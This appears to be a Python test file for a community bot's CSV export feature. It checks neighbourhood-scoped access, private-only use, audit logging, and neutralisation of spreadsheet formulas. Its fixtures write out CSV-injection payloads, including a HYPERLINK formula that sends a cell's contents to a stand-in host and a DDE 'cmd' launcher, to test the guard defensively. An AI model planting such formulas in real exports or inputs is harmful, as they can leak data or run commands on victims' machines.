"""/export: CSV in private chats only, only the organiser's own neighbourhoods, formulas
neutralised in every text cell, and every export (or refused `all`) audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest

from bot.callback_data import pack
from bot.offline.updates import FakeUser
from bot.organising.exports import REQUEST_PERSONAL, VOLUNTEER_PERSONAL
from bot.spreadsheet import FORMULA_STARTS, guard, unguard, write_csv
from bot.volunteers.volunteering import Offer
from config import oversight_texts
from config.settings import Settings
from handlers.requests import flow as request_flow
from handlers.requests.steps import Step
from tests.conftest import ORGANISER, VOLUNTEERS_CHAT, BotHarness, make_settings
from tests.flows import agree, create_neighbourhood, invite_code
from tests.flows_oversight import (
    ELM_ORGANISER,
    OAK_ORGANISER,
    log_phone_in,
    make_organiser,
    resident_request,
    scalar,
    two_neighbourhoods,
)

OVERSEER = FakeUser(1009, "Ovid", "Overseer")  # a bootstrap organiser who joined nowhere
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'


@pytest.fixture
def settings(tmp_path: Path, database_url: str | None) -> Settings:
    """Two bootstrap organisers: the usual one and one who organises no neighbourhood."""
    backend = {"DATABASE_URL": database_url} if database_url else {}
    return make_settings(tmp_path, ORGANISER_IDS=f"{ORGANISER.id},{OVERSEER.id}", **backend)


def parse(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


async def export(bot: BotHarness, user: FakeUser, args: str) -> list[dict[str, str]]:
    """Send /export args; returns the rows of the CSV it sent."""
    before = len(bot.fake.documents_to(user.id))
    await bot.send(bot.build.command(user, "export", args))
    documents = bot.fake.documents_to(user.id)
    assert len(documents) == before + 1, bot.fake.texts_to(user.id)[-1:]
    return parse(documents[-1][1])


async def audit_entries(bot: BotHarness) -> list[tuple[int, str, dict[str, object]]]:
    async with bot.services.db.read() as conn:
        return [
            (r[0], r[1], json.loads(r[2]))
            for r in await conn.fetch(
                "SELECT actor_telegram_id, action, after FROM audit_log "
                "WHERE action LIKE 'export.%' ORDER BY id"
            )
        ]


async def test_an_export_holds_only_the_organisers_own_neighbourhoods(
    harness: BotHarness,
) -> None:
    c = await two_neighbourhoods(harness)
    _, elm_ref = await resident_request(harness)
    await log_phone_in(harness, ORGANISER, choose=c.oak)  # a phone-in request in Oak Row
    harness.fake.clear()

    # Oak Row's organiser gets Oak Row's request only, with its details.
    await harness.send(harness.build.command(OAK_ORGANISER, "export", "requests 30"))
    name, _ = harness.fake.documents_to(OAK_ORGANISER.id)[-1]
    assert name.startswith("requests-") and name.endswith(".csv")
    (oak,) = await export(harness, OAK_ORGANISER, "requests 30")
    assert oak["neighbourhood"] == "Oak Row" and elm_ref not in oak.values()
    assert oak["for_name"] == "Mrs <b>Jones</b>" and oak["address"] == "3 Oak Lane"
    assert unguard(oak["for_phone"]) == "+447700100123" and oak["phone_in"] == "1"
    caption = harness.fake.calls_to("sendDocument", OAK_ORGANISER.id)[-1].params["caption"]
    assert caption == "Requests: 1 row, last 30 days, from Oak Row."

    # Elm Park's organiser gets the resident's request and not the neighbour's.
    (elm,) = await export(harness, ELM_ORGANISER, "requests")
    assert (elm["ref"], elm["neighbourhood"]) == (elm_ref, "Elm Park")
    assert elm["address"] == "1 Elm Road" and elm["requester_name"] == "Rita Resident"
    assert all(column in elm for column in REQUEST_PERSONAL)

    # Volunteers: Elm Park's two, with names, only for Elm Park's organiser.
    assert await export(harness, OAK_ORGANISER, "volunteers") == []
    volunteers = await export(harness, ELM_ORGANISER, "volunteers")
    assert {v["display_name"] for v in volunteers} == {"Vera Volunteer", "Walt Volunteer"}
    assert all(v["neighbourhood"] == "Elm Park" for v in volunteers)
    assert all(column in volunteers[0] for column in VOLUNTEER_PERSONAL)

    # `all` is for bootstrap organisers: refused (and audited) for Elm Park's.
    await harness.send(harness.build.command(ELM_ORGANISER, "export", "requests all"))
    assert harness.fake.texts_to(ELM_ORGANISER.id)[-1] == oversight_texts.EXPORT_ALL_NOT_ALLOWED
    await harness.send(harness.build.command(ELM_ORGANISER, "export", "assets all"))
    assert harness.fake.texts_to(ELM_ORGANISER.id)[-1] == oversight_texts.EXPORT_ALL_NOT_ALLOWED

    # A bootstrap organiser who joined no neighbourhood must ask for `all`, and gets both.
    await agree(harness, OVERSEER)
    await harness.send(harness.build.command(OVERSEER, "export", "requests"))
    assert harness.fake.texts_to(OVERSEER.id)[-1] == oversight_texts.EXPORT_NONE_OF_YOUR_OWN.format(
        kind="requests"
    )
    everything = await export(harness, OVERSEER, "requests all 30")
    assert {row["neighbourhood"] for row in everything} == {"Elm Park", "Oak Row"}
    assert {row["address"] for row in everything} == {"1 Elm Road", "3 Oak Lane"}
    caption = harness.fake.calls_to("sendDocument", OVERSEER.id)[-1].params["caption"]
    assert caption == "Requests: 2 rows, last 30 days, from every neighbourhood."

    entries = await audit_entries(harness)
    assert [(actor, action) for actor, action, _ in entries] == [
        (OAK_ORGANISER.id, "export.requests"),
        (OAK_ORGANISER.id, "export.requests"),
        (ELM_ORGANISER.id, "export.requests"),
        (OAK_ORGANISER.id, "export.volunteers"),
        (ELM_ORGANISER.id, "export.volunteers"),
        (ELM_ORGANISER.id, "export.requests.refused"),
        (ELM_ORGANISER.id, "export.assets.refused"),
        (OVERSEER.id, "export.requests"),
    ]
    first, elm_entry, overseer = entries[0][2], entries[2][2], entries[-1][2]
    assert first == {"rows": 1, "days": 30, "scope": "own", "neighbourhood_ids": [c.oak]}
    assert elm_entry["neighbourhood_ids"] == [c.elm]
    assert overseer == {
        "rows": 2,
        "days": 30,
        "scope": "all",
        "neighbourhood_ids": sorted([c.elm, c.oak]),
    }
    assert entries[5][2] == {"scope": "all", "reason": "all_not_allowed"}


async def test_export_only_in_private_and_with_clear_usage(harness: BotHarness) -> None:
    await two_neighbourhoods(harness)
    await harness.send(
        harness.build.group_command(ELM_ORGANISER, VOLUNTEERS_CHAT, "export", "requests")
    )
    assert harness.fake.texts_to(VOLUNTEERS_CHAT)[-1] == oversight_texts.PRIVATE_ONLY
    assert not harness.fake.documents_to(VOLUNTEERS_CHAT)
    bad = ("", "people", "requests abc", "volunteers 0", "requests all all", "requests 3 4")
    for args in bad:
        await harness.send(harness.build.command(ELM_ORGANISER, "export", args))
        assert harness.fake.texts_to(ELM_ORGANISER.id)[-1] == oversight_texts.EXPORT_USAGE
    await harness.send(harness.build.command(ELM_ORGANISER, "export", "assets 30"))
    assert harness.fake.texts_to(ELM_ORGANISER.id)[-1] == oversight_texts.EXPORT_USAGE
    assert not harness.fake.documents_to(ELM_ORGANISER.id)
    exports = await scalar(harness, "SELECT COUNT(*) FROM audit_log WHERE action LIKE 'export.%'")
    assert exports == 0


# Formula-looking input, one per text field, starting with each character spreadsheets run.
NEIGHBOURHOOD = "=1+1 Park"
RESIDENT_FORMULA = FakeUser(1102, HYPERLINK, "+Resident")
VOLUNTEER_FORMULA = FakeUser(2101, "@SUM(A1:A9)", "Vol")
DESCRIPTION = HYPERLINK
ADDRESS = "-2+3 Elm Road"
PHARMACY = "@Boots"
FOR_NAME = "=cmd|' /C calc'!A0"
ASSET_CSV = (
    "title,kind,description,tags,availability,contact_name,contact_details\n"
    '=Hall,physical,"+1 big room",-tags,@weekends,"=Sam",+44 161 496 0000\n'
)


async def formula_requests(bot: BotHarness) -> int:
    """A neighbourhood, resident, volunteer and requests whose every text looks like a formula."""
    await agree(bot, ORGANISER)
    nid = await create_neighbourhood(bot, ORGANISER, NEIGHBOURHOOD)
    code = await invite_code(bot, ORGANISER, nid)
    await agree(bot, RESIDENT_FORMULA, code)
    await agree(bot, VOLUNTEER_FORMULA, code)
    offer = Offer(frozenset({"prescription"}), availability=7, phone_e164="+447700100789")
    await bot.services.volunteering.save_offer(VOLUNTEER_FORMULA.id, offer)
    volunteer = await bot.services.community.person(VOLUNTEER_FORMULA.id)
    assert volunteer is not None
    await bot.services.volunteering.approve(ORGANISER.id, volunteer.id, nid)

    async def press(step: Step, value: str) -> None:
        await bot.press(RESIDENT_FORMULA, pack(request_flow.KIND, step.token, value))

    async def say(text: str) -> None:
        await bot.send(bot.build.text(RESIDENT_FORMULA, text))

    await bot.send(bot.build.command(RESIDENT_FORMULA, "request"))
    await press(Step.CATEGORY, "prescription")
    await say(DESCRIPTION)
    await press(Step.WHEN, "today")
    await say("07700 100456")
    await say(ADDRESS)
    await say(PHARMACY)
    await press(Step.FOR_WHOM, "other")
    await say(FOR_NAME)
    await say("07700 100457")
    await press(Step.FOR_AGREED, "yes")
    await press(Step.SUMMARY, "confirm")
    async with bot.services.db.read() as conn:
        (request_id,) = [row[0] for row in await conn.fetch("SELECT id FROM help_requests")]
    await bot.press(VOLUNTEER_FORMULA, pack("accept", request_id))
    return nid


def assert_guarded(rows: list[dict[str, str]], columns: tuple[str, ...]) -> None:
    """No cell starts a formula, and each named column holds a guarded formula-looking text."""
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    for column in columns:
        guarded = [row[column] for row in rows if row[column].startswith("'")]
        assert guarded, f"{column}: no formula-looking text was exported"
        assert all(unguard(value).startswith(FORMULA_STARTS) for value in guarded), column


async def test_a_formula_in_every_text_field_of_every_export_is_neutralised(
    harness: BotHarness,
) -> None:
    await formula_requests(harness)
    harness.clock.advance(timedelta(minutes=1))
    await harness.send(harness.build.command(ORGANISER, "import", "assets"))
    await harness.send(harness.build.document(ORGANISER, "a.csv", ASSET_CSV.encode()))
    assert (harness.fake.last_text_to(ORGANISER.id) or "").startswith("Imported: 1 added")

    requests = await export(harness, ORGANISER, "requests")
    assert_guarded(
        requests,
        ("neighbourhood", "requester_name", "contact_phone", "address", "description")
        + ("pharmacy", "for_name", "for_phone", "assignee_name"),
    )
    (row,) = requests
    assert unguard(row["description"]) == DESCRIPTION and row["description"] == "'" + DESCRIPTION
    assert unguard(row["requester_name"]) == f"{HYPERLINK} +Resident"
    assert (unguard(row["address"]), unguard(row["for_name"])) == (ADDRESS, FOR_NAME)

    volunteers = await export(harness, ORGANISER, "volunteers")
    assert_guarded(volunteers, ("neighbourhood", "display_name", "phone_e164"))

    assets = await export(harness, ORGANISER, "assets")
    assert_guarded(
        assets,
        ("neighbourhood", "title", "description", "tags", "availability")
        + ("contact_name", "contact_details"),
    )
    # The import reads its own export back unchanged (the guard is taken off).
    content = harness.fake.documents_to(ORGANISER.id)[-1][1]
    await harness.send(harness.build.command(ORGANISER, "import", "assets"))
    await harness.send(harness.build.document(ORGANISER, "back.csv", content))
    assert harness.fake.last_text_to(ORGANISER.id) == "Imported: 0 added, 0 updated, 1 unchanged."


def test_the_guard_covers_tab_and_carriage_return_and_round_trips() -> None:
    texts = ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''", "'a", "plain", "", "a=b", "'"]
    for text in texts:
        assert unguard(guard(text)) == text, text
        assert not guard(text).startswith(FORMULA_STARTS), text
    assert guard("\t=1") == "'\t=1" and guard("plain") == "plain"
    document = write_csv(["a", "b"], [["\rcmd", 5], [None, "-3"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(document))) == [["a", "b"], ["'\rcmd", "5"], ["", "'-3"]]


async def test_an_organiser_of_two_neighbourhoods_gets_both_and_no_other(
    harness: BotHarness,
) -> None:
    c = await two_neighbourhoods(harness)
    await create_neighbourhood(harness, ORGANISER, "Ash Close")
    await make_organiser(harness, ELM_ORGANISER, c.oak_code, c.oak)
    await resident_request(harness)
    await log_phone_in(harness, ORGANISER, choose=c.oak)
    rows = await export(harness, ELM_ORGANISER, "requests")
    assert sorted(row["neighbourhood"] for row in rows) == ["Elm Park", "Oak Row"]
    # The bootstrap organiser created all three, so they are all their own.
    names = {row["neighbourhood"] for row in await export(harness, ORGANISER, "requests")}
    assert names == {"Elm Park", "Oak Row"}
